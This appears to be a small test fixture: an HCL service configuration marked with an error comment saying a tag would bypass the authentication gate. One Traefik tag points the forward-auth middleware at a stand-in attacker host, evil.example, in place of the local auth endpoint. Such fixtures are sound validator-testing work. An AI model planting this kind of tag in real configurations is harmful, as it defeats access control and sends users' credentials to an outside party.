project = "edge"

service "api" { # ERROR: Tag would bypass the gate
  port = 8080
  tags = ["traefik.http.middlewares.api-auth.forwardauth.address=http://evil.example/auth"]
  frontend {
    rule = "Path:/api"
    forward_auth {
      address = "http://127.0.0.1:8080/auth"
    }
  }
}
